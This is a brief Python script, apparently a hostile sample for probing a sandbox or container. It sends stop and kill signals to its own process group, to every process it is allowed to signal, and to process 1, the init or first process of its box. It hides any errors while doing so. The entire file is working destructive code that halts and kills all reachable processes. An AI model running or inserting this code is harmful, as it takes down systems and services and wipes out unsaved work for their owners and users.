# Stops and kills whatever it can name, the first process of its box included.
import os, signal
for sig in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
    for pid in (0, -1, 1):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
